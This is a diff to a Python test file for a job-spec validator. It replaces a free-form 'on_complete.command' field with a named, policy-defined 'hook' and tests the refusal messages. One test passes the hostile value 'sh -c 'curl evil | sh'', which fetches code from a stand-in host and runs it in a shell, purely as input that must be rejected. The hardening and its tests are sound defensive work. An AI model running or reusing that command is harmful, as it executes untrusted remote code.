@@ -49,7 +49,7 @@ timeout: 30m                     # hard limit per chunk attempt
 image: ffswarm/runner:1.0        # resolved to a digest/ID at submit and recorded
 models: default                  # pack under <root>/models/
 providers: [cuda, cpu]           # cpu only if listed; the runner logs which one ran
-on_complete: {webhook: https://hooks.example.internal/ffswarm, command: null}
+on_complete: {webhook: https://hooks.example.internal/ffswarm, hook: notify-crm}
 """
 
 MINIMAL: dict[str, Any] = {
@@ -110,7 +110,7 @@ def test_design_example_parses(tmp_path: Path) -> None:
         image="ffswarm/runner:1.0",
         models="default",
         providers=("cuda", "cpu"),
-        on_complete=OnComplete(webhook="https://hooks.example.internal/ffswarm", command=None),
+        on_complete=OnComplete(webhook="https://hooks.example.internal/ffswarm", hook="notify-crm"),
     )
     assert isinstance(spec.segment_seconds, float)
 
@@ -287,8 +287,9 @@ def test_memory_sizes(memory: object, size: int) -> None:
         ({"resources": {"memory": 0}}, "resources.memory", "above zero"),
         ({"resources": {"memory": True}}, "resources.memory", "must be a size"),
         ({"on_complete": {"webhook": "ftp://x"}}, "on_complete.webhook", "an http:// or https:// URL"),
-        ({"on_complete": {"command": ""}}, "on_complete.command", "must be a non-empty string"),
-        ({"on_complete": {"command": ["notify", "x"]}}, "on_complete.command", "got a list"),
+        ({"on_complete": {"hook": ""}}, "on_complete.hook", "must be a non-empty string"),
+        ({"on_complete": {"hook": "sh -c x"}}, "on_complete.hook", "must be the name of a hook in the"),
+        ({"on_complete": {"hook": ["notify", "x"]}}, "on_complete.hook", "got a list"),
         ({"detector": {"threshold": 0}}, "detector.threshold", "must be a number in (0, 1], got 0"),
         ({"detector": {"size": 650}}, "detector.size", "must be a multiple of 32, got 650"),
         ({"detector": {"size": 64}}, "detector.size", "must be an integer from 160 to 2048, got 64"),
@@ -331,8 +332,16 @@ def test_unknown_nested_key_did_you_mean() -> None:
 
 
 def test_unknown_nested_key_in_on_complete() -> None:
-    err = refusal(job(on_complete={"hook": "https://x"}))
-    assert (err.field, err.reason) == ("on_complete.hook", "unknown key (did you mean 'webhook'?)")
+    err = refusal(job(on_complete={"webhok": "https://x"}))
+    assert (err.field, err.reason) == ("on_complete.webhok", "unknown key (did you mean 'webhook'?)")
+
+
+def test_on_complete_command_is_gone_with_a_did_you_mean_to_hook() -> None:
+    err = refusal(job(on_complete={"command": "sh -c 'curl evil | sh'"}))
+    assert (err.file, err.field, err.exit_code) == (FILE, "on_complete.command", 65)
+    assert err.reason == (
+        "is no longer supported: a job names a hook the cluster's policy defines (did you mean 'hook'?)"
+    )
 
 
 def test_unknown_key_without_a_near_match() -> None:
